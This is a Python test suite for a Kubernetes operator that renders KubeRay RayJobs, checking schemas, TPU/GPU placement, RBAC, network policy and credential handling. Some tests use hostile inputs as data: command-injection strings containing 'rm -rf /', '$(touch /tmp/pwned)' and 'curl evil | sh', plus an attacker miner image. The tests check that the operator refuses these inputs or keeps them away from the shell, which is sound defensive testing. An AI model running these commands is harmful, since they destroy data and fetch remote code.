"""Rendered objects: RayJobs valid against the real KubeRay v1.7 CRDs (unknown fields refused),
core objects valid against Kubernetes' schemas, placement per accelerator, no CR text in
anything a shell reads, no credentials anywhere."""

from __future__ import annotations

import json
import signal
import subprocess
import sys
from pathlib import Path

import jsonschema
import kubernetes_validate
import pytest
import yaml
from s3gan_operator.accelerators import TPU_RESOURCE
from s3gan_operator.render import (
    ENTRYPOINT,
    RAYJOB_NAME_LIMIT,
    Owner,
    RenderError,
    experiment_document,
    ray_job_name,
    render,
)
from s3gan_operator.settings import OperatorSettings, SettingsError

from s3gan.spec import ExperimentSpec, parse_experiment

REPO = Path(__file__).resolve().parents[2]
KUBERAY = REPO.parent / "shared" / "kuberay-crds"
OWNER = Owner("imagenet-s3gan-10", "research", "6f1c2b0e-0000-4000-8000-000000000001")
SETTINGS = OperatorSettings()

CPU = {"dataset": {"uri": "/data/fashion-mnist", "resolution": 32, "numClasses": 10},
       "training": {"globalBatch": 64}, "resources": {"workers": 2, "cpusPerWorker": 1,
                                                      "memoryPerWorker": "4Gi"}}
GPU = {"dataset": {"uri": "s3://bucket/imagenet"}, "method": "s2gan-co",
       "resources": {"accelerator": {"kind": "gpu", "type": "nvidia-l4", "perWorker": 2},
                     "workers": 8},
       "storage": {"runs": "s3://bucket/runs", "credentials": {"secretName": "s3-keys"}}}
TPU = {"dataset": {"uri": "gs://bucket/imagenet"},
       "resources": {"accelerator": {"kind": "tpu", "type": "tpu-v4-podslice",
                                     "topology": "2x2x4", "perWorker": 4}, "workers": 8},
       "storage": {"credentials": {"serviceAccount": "s3gan-storage"}},
       "cluster": {"queueName": "tpu-queue", "activeDeadlineSeconds": 86400}}
KINDS = {"cpu": CPU, "gpu": GPU, "tpu": TPU}


def _strict(node):
    """Refuse unknown fields: additionalProperties false wherever properties are listed."""
    if isinstance(node, dict):
        if "properties" in node and "additionalProperties" not in node and not node.get(
                "x-kubernetes-preserve-unknown-fields"):
            node["additionalProperties"] = False
        for value in node.values():
            _strict(value)
    elif isinstance(node, list):
        for value in node:
            _strict(value)
    return node


def _kuberay_schema(file: str) -> dict:
    if not (KUBERAY / file).is_file():
        pytest.skip(f"KubeRay v1.7 CRDs not found at {KUBERAY} (the shared data folder)")
    crd = yaml.load((KUBERAY / file).read_text(), Loader=yaml.CSafeLoader)  # 1 MB each
    version = next(v for v in crd["spec"]["versions"] if v["name"] == "v1")
    return _strict(version["schema"]["openAPIV3Schema"])


@pytest.fixture(scope="module")
def rayjob_schema():
    return _kuberay_schema("ray.io_rayjobs.yaml")


@pytest.fixture(scope="module")
def raycluster_schema():
    return _kuberay_schema("ray.io_rayclusters.yaml")


def _children(document, settings=SETTINGS):
    return render(OWNER, ExperimentSpec.model_validate(document), settings)


@pytest.mark.parametrize("kind", KINDS)
@pytest.mark.parametrize("settings", [SETTINGS, OperatorSettings(
    ray_auth="off", ray_network_policy="DenyAllIngress")], ids=["token", "policy"])
def test_ray_job_validates_against_kuberay(kind, settings, rayjob_schema, raycluster_schema):
    job = _children(KINDS[kind], settings).ray_job
    jsonschema.Draft4Validator(rayjob_schema).validate(job)
    cluster = {"apiVersion": "ray.io/v1", "kind": "RayCluster", "metadata": {"name": "c"},
               "spec": job["spec"]["rayClusterSpec"]}
    jsonschema.Draft4Validator(raycluster_schema).validate(cluster)


def test_an_invented_field_is_caught_by_the_strict_schema(rayjob_schema):
    job = _children(CPU).ray_job
    job["spec"]["rayClusterSpec"]["headGroupSpec"]["dashboardExposed"] = False
    with pytest.raises(jsonschema.ValidationError, match="dashboardExposed"):
        jsonschema.Draft4Validator(rayjob_schema).validate(job)


@pytest.mark.parametrize("kind", KINDS)
def test_core_objects_validate_against_kubernetes(kind):
    children = _children(KINDS[kind])
    objects = [children.config_map, children.role, children.role_binding]
    objects += [children.service_account] if children.service_account else []
    for obj in objects:
        kubernetes_validate.validate(obj, "1.35", strict=True)


def test_tpu_workers_are_whole_slices_of_hosts():
    group = _children(TPU).ray_job["spec"]["rayClusterSpec"]["workerGroupSpecs"][0]
    pod = group["template"]["spec"]
    # 2x2x4 = 16 chips, 4 per host: 4 hosts per slice; 8 hosts are 2 slices.
    assert (group["replicas"], group["numOfHosts"]) == (2, 4)
    assert pod["nodeSelector"] == {"cloud.google.com/gke-tpu-accelerator": "tpu-v4-podslice",
                                   "cloud.google.com/gke-tpu-topology": "2x2x4"}
    resources = pod["containers"][0]["resources"]
    assert resources["requests"][TPU_RESOURCE] == resources["limits"][TPU_RESOURCE] == "4"


@pytest.mark.parametrize("change, field", [
    ({"workers": 6}, "spec.resources.workers"),
    ({"accelerator": {**TPU["resources"]["accelerator"], "perWorker": 3}},
     "spec.resources.accelerator.perWorker"),
    ({"accelerator": {**TPU["resources"]["accelerator"], "type": "tpu v4; rm -rf /"}},
     "spec.resources.accelerator.type"),
])
def test_unplaceable_tpu_workers_name_the_field(change, field):
    document = {**TPU, "resources": {**TPU["resources"], **change}}
    with pytest.raises(RenderError, match=field):
        _children(document)


def test_gpu_workers_request_gpus_on_the_named_node_pool():
    group = _children(GPU).ray_job["spec"]["rayClusterSpec"]["workerGroupSpecs"][0]
    pod = group["template"]["spec"]
    assert (group["replicas"], group["numOfHosts"]) == (8, 1)
    assert pod["nodeSelector"] == {"cloud.google.com/gke-accelerator": "nvidia-l4"}
    assert pod["tolerations"] == [{"key": "nvidia.com/gpu", "operator": "Exists",
                                   "effect": "NoSchedule"}]
    assert pod["containers"][0]["resources"]["limits"]["nvidia.com/gpu"] == "2"


def test_cpu_workers_have_no_accelerator_placement():
    group = _children(CPU).ray_job["spec"]["rayClusterSpec"]["workerGroupSpecs"][0]
    assert group["replicas"] == 2
    assert "nodeSelector" not in group["template"]["spec"]
    assert group["template"]["spec"]["containers"][0]["resources"]["requests"] == {
        "cpu": "1", "memory": "4Gi"}


def test_job_lifecycle_fields_follow_the_spec():
    job = _children({**CPU, "cluster": {"backoffLimit": 5, "ttlSecondsAfterFinished": 60},
                     "suspend": True}).ray_job["spec"]
    assert (job["backoffLimit"], job["ttlSecondsAfterFinished"]) == (5, 60)
    assert job["shutdownAfterJobFinishes"] is True and job["suspend"] is True
    assert "activeDeadlineSeconds" not in job
    cluster = job["rayClusterSpec"]
    assert cluster["authOptions"] == {"mode": "token"} and "networkPolicy" not in cluster
    assert cluster["headGroupSpec"]["serviceType"] == "ClusterIP"


def test_a_queued_job_is_created_suspended_with_the_kueue_label():
    job = _children(TPU).ray_job
    assert job["metadata"]["labels"]["kueue.x-k8s.io/queue-name"] == "tpu-queue"
    assert job["spec"]["suspend"] is True
    assert job["spec"]["activeDeadlineSeconds"] == 86400


def test_the_spec_reaches_the_job_as_a_mounted_file():
    children = _children(GPU)
    document = yaml.safe_load(children.config_map["data"]["experiment.yaml"])
    assert parse_experiment(document).spec == ExperimentSpec.model_validate(GPU)
    head = children.ray_job["spec"]["rayClusterSpec"]["headGroupSpec"]["template"]["spec"]
    mount = head["containers"][0]["volumeMounts"][0]
    volume = next(v for v in head["volumes"] if v["name"] == mount["name"])
    assert mount["mountPath"] + "/experiment.yaml" == ENTRYPOINT.split()[-1]
    assert volume["configMap"]["name"] == children.config_map["metadata"]["name"]


def test_credentials_are_references_never_values():
    children = _children(GPU)
    env = children.ray_job["spec"]["rayClusterSpec"]["headGroupSpec"]["template"]["spec"][
        "containers"][0]["env"]
    secret_refs = {e["name"]: e["valueFrom"]["secretKeyRef"] for e in env
                   if "secretKeyRef" in e.get("valueFrom", {})}
    assert secret_refs == {k: {"name": "s3-keys", "key": k}
                           for k in ("AWS_ACCESS_KEY_ID", "AWS_SECRET_ACCESS_KEY")}
    assert all("value" not in e for e in env if e["name"].startswith("AWS_"))


def test_pod_identity_runs_the_pods_and_gets_the_status_role():
    children = _children(TPU)
    assert children.service_account is None
    pods = children.ray_job["spec"]["rayClusterSpec"]
    accounts = {pods["headGroupSpec"]["template"]["spec"]["serviceAccountName"],
                pods["workerGroupSpecs"][0]["template"]["spec"]["serviceAccountName"]}
    assert accounts == {"s3gan-storage"}
    assert children.role_binding["subjects"][0]["name"] == "s3gan-storage"


def test_the_reporter_role_reaches_only_this_experiments_status():
    children = _children(CPU)
    assert children.role["rules"] == [{
        "apiGroups": ["s3gan.io"], "resources": ["s3ganexperiments/status"],
        "resourceNames": [OWNER.name], "verbs": ["get", "patch"]}]
    assert children.role_binding["subjects"][0]["name"] == \
        children.service_account["metadata"]["name"]


def test_every_child_is_owned_by_the_experiment_and_named_deterministically():
    first, second = _children(CPU), _children(CPU)
    assert first == second
    for child in [c for wave in first.waves() for c in wave]:
        (reference,) = child["metadata"]["ownerReferences"]
        assert (reference["uid"], reference["controller"]) == (OWNER.uid, True)
        assert child["metadata"]["namespace"] == OWNER.namespace
    assert first.waves()[-1] == [first.ray_job]


def test_the_role_is_created_a_wave_before_its_binding():
    """RBAC refuses a binding to a Role that does not exist yet to a binder without `bind`."""
    kinds = [[c["kind"] for c in wave] for wave in _children(CPU).waves()]
    assert kinds == [["ConfigMap", "ServiceAccount", "Role"],
                     ["RoleBinding", "NetworkPolicy"], ["RayJob"]]


def test_the_network_policy_admits_only_the_experiment_the_operator_and_monitoring():
    settings = OperatorSettings(operator_namespace="s3gan-system",
                                monitoring_namespace="monitoring")
    policy = _children(CPU, settings).network_policy
    own = {"matchLabels": {"s3gan.io/experiment": OWNER.name}}
    assert policy["spec"]["podSelector"] == own
    assert policy["spec"]["policyTypes"] == ["Ingress"]
    sources = [rule["from"][0] for rule in policy["spec"]["ingress"]]
    assert sources[0] == {"podSelector": own}
    assert sources[1]["namespaceSelector"]["matchLabels"] == {
        "kubernetes.io/metadata.name": "s3gan-system"}
    assert sources[1]["podSelector"]["matchLabels"] == {"app.kubernetes.io/component": "operator"}
    assert policy["spec"]["ingress"][2]["ports"] == [{"protocol": "TCP", "port": 9100}]
    assert _children(CPU, OperatorSettings(network_policy=False)).network_policy is None


def test_ray_pods_meet_the_restricted_pod_security_standard():
    cluster = _children(GPU).ray_job["spec"]["rayClusterSpec"]
    for group in (cluster["headGroupSpec"], *cluster["workerGroupSpecs"]):
        pod = group["template"]["spec"]
        assert pod["securityContext"]["runAsNonRoot"] is True
        assert pod["securityContext"]["seccompProfile"] == {"type": "RuntimeDefault"}
        for container in pod["containers"]:
            assert container["securityContext"] == {
                "allowPrivilegeEscalation": False, "capabilities": {"drop": ["ALL"]}}


@pytest.mark.parametrize("image, allowed", [
    ("ghcr.io/s3gan/ray:1.2", True), ("ghcr.io/s3gan/ray@sha256:" + "a" * 64, True),
    ("ghcr.io/s3gan/ray-evil:1", False), ("docker.io/attacker/miner:latest", False),
    ("registry.example.com/ml/s3gan-ray:2", True), ("registry.example.com/mlx/a:1", False),
])
def test_only_allowed_images_are_rendered(image, allowed):
    settings = OperatorSettings(ray_image="ghcr.io/s3gan/ray:0.1.0",
                                allowed_images=("ghcr.io/s3gan/ray", "registry.example.com/ml/"))
    document = {**CPU, "cluster": {"image": image}}
    if allowed:
        assert _children(document, settings).ray_job
    else:
        with pytest.raises(RenderError, match=r"spec.cluster.image: .* ray.allowedImages"):
            _children(document, settings)


def test_by_default_only_the_configured_images_repository_is_allowed():
    settings = OperatorSettings(ray_image="registry:5000/s3gan/ray:0.1.0")
    assert _children({**CPU, "cluster": {"image": "registry:5000/s3gan/ray:0.2"}}, settings)
    with pytest.raises(RenderError, match="spec.cluster.image"):
        _children({**CPU, "cluster": {"image": "registry:5000/other/ray:0.2"}}, settings)


def test_long_names_are_shortened_stably_within_kuberays_limit():
    long = "a" * 63
    assert ray_job_name(long) == ray_job_name(long)
    assert len(ray_job_name(long)) <= RAYJOB_NAME_LIMIT
    assert ray_job_name(long) != ray_job_name("a" * 62 + "b")
    assert ray_job_name("short") == "short"


HOSTILE = "x$(touch /tmp/pwned)`id`;rm -rf / && echo 'q\"' | sh > /dev/null\n${HOME}"


def test_hostile_text_reaches_only_the_config_map():
    document = {**GPU, "dataset": {**GPU["dataset"], "uri": HOSTILE, "trainSplit": HOSTILE,
                                   "evalSplit": HOSTILE},
                "storage": {"runs": HOSTILE, "endpoint": HOSTILE, "region": HOSTILE[:63]},
                "evaluation": {"inceptionWeights": HOSTILE},
                "sweep": {"grid": {"method": ["s3gan"]}}}
    children = _children(document)
    assert children.ray_job["spec"]["entrypoint"] == ENTRYPOINT
    assert HOSTILE not in json.dumps(children.ray_job)
    for child in (children.role, children.role_binding, children.service_account):
        assert "touch /tmp/pwned" not in json.dumps(child)
    data = children.config_map["data"]["experiment.yaml"]
    assert yaml.safe_load(data)["spec"]["dataset"]["uri"] == HOSTILE
    assert experiment_document(OWNER, ExperimentSpec.model_validate(document)) == data


def test_a_hostile_image_is_refused_by_field():
    with pytest.raises(RenderError, match="spec.cluster.image"):
        _children({**CPU, "cluster": {"image": "ray; curl evil | sh"}})


@pytest.mark.parametrize("env, message", [
    ({"S3GAN_RAY_AUTH": "yes"}, "S3GAN_RAY_AUTH"),
    ({"S3GAN_RAY_NETWORK_POLICY": "AllowAll"}, "S3GAN_RAY_NETWORK_POLICY"),
    ({"S3GAN_OPERATOR_METRICS_PORT": "http"}, "S3GAN_OPERATOR_METRICS_PORT"),
    ({"S3GAN_RAY_IMAGE": " "}, "S3GAN_RAY_IMAGE"),
    ({"S3GAN_RAY_TERMINATION_GRACE_SECONDS": "2m"}, "S3GAN_RAY_TERMINATION_GRACE_SECONDS"),
    ({"S3GAN_RAY_TERMINATION_GRACE_SECONDS": "30"}, "at least 45"),
    ({"S3GAN_OPERATOR_METRICS_ADDRESS": "localhost"}, "S3GAN_OPERATOR_METRICS_ADDRESS"),
    ({"S3GAN_NETWORK_POLICY": "yes"}, "S3GAN_NETWORK_POLICY"),
])
def test_bad_operator_settings_name_the_variable(env, message):
    with pytest.raises(SettingsError, match=message):
        OperatorSettings.from_env(env)


def test_operator_settings_from_the_environment():
    settings = OperatorSettings.from_env({"S3GAN_RAY_IMAGE": "registry.local:5000/s3gan/ray:1",
                                          "S3GAN_RAY_NETWORK_POLICY": "DenyAll",
                                          "S3GAN_OPERATOR_METRICS_PORT": "0",
                                          "S3GAN_RAY_TERMINATION_GRACE_SECONDS": "600"})
    assert settings.ray_image == "registry.local:5000/s3gan/ray:1"
    assert (settings.ray_network_policy, settings.metrics_port) == ("DenyAll", 0)
    assert (settings.termination_grace_seconds, settings.ray_drain_seconds) == (600, 585)
    assert OperatorSettings.from_env({}) == OperatorSettings()
    assert OperatorSettings().metrics_address == "0.0.0.0"  # a pod is scraped from other pods
    listen = OperatorSettings.from_env({"S3GAN_OPERATOR_METRICS_ADDRESS": "127.0.0.1",
                                        "S3GAN_ALLOWED_IMAGES": "a.io/x, b.io/",
                                        "S3GAN_OPERATOR_NAMESPACE": "ops"})
    assert (listen.metrics_address, listen.allowed_images) == ("127.0.0.1", ("a.io/x", "b.io/"))
    assert listen.operator_namespace == "ops" and listen.network_policy is True


EXAMPLES = sorted((REPO / "manifests" / "examples").glob("*.yaml"))


def test_the_examples_cover_every_accelerator_and_a_sweep():
    specs = [yaml.safe_load(p.read_text())["spec"] for p in EXAMPLES]
    kinds = {s.get("resources", {}).get("accelerator", {}).get("kind", "cpu") for s in specs}
    assert kinds == {"cpu", "gpu", "tpu"} and any("sweep" in s for s in specs)


@pytest.mark.parametrize("path", EXAMPLES, ids=lambda p: p.name)
def test_every_example_renders_a_valid_ray_job(path, rayjob_schema):
    experiment = parse_experiment(yaml.safe_load(path.read_text()), str(path))
    owner = Owner(experiment.metadata.name, experiment.metadata.namespace, "uid")
    job = render(owner, experiment.spec, SETTINGS).ray_job
    jsonschema.Draft4Validator(rayjob_schema).validate(job)


@pytest.mark.parametrize("kind", KINDS)
@pytest.mark.parametrize("grace, drain", [(None, 105), (300, 285)])
def test_ray_pods_outlast_the_drain_in_which_the_train_stage_saves(kind, grace, drain):
    settings = SETTINGS if grace is None else OperatorSettings(termination_grace_seconds=grace)
    cluster = _children(KINDS[kind], settings).ray_job["spec"]["rayClusterSpec"]
    for group in (cluster["headGroupSpec"], *cluster["workerGroupSpecs"]):
        pod = group["template"]["spec"]
        (container,) = pod["containers"]
        env = {e["name"]: e.get("value") for e in container["env"]}
        assert pod["terminationGracePeriodSeconds"] == (grace or 120)
        # Longer than Ray's default window (30 s), shorter than the grace period.
        assert env["RAY_GRACEFUL_SHUTDOWN_DRAIN_TIMEOUT_S"] == str(drain)
        # KubeRay writes the command: `ray start --block`, last on its `bash -lc` line.
        assert "command" not in container and "args" not in container
        assert "block" not in group["rayStartParams"]


def test_kuberays_bash_line_hands_sigterm_to_its_last_command(tmp_path):
    """KubeRay's container command is ``/bin/bash -lc -- "ulimit -n 65536; ray start ..."``:
    bash replaces itself with the last command, so the pod's SIGTERM reaches ``ray start``
    (here a Python stand-in that reports its pid and the signal)."""
    waiter = tmp_path / "waiter.py"
    waiter.write_text("import os, signal, sys\n"
                      "signal.signal(signal.SIGTERM, lambda *_: sys.exit(print('SIGTERM')))\n"
                      "print(os.getpid(), flush=True)\n"
                      "signal.pause()\n")
    line = f"ulimit -n 1024; {sys.executable} {waiter}"
    process = subprocess.Popen(["/bin/bash", "-lc", "--", line], stdout=subprocess.PIPE,
                               text=True)
    try:
        assert int(process.stdout.readline()) == process.pid  # bash exec'd it
        process.send_signal(signal.SIGTERM)
        assert process.communicate(timeout=30)[0].strip() == "SIGTERM"
    finally:
        process.kill()
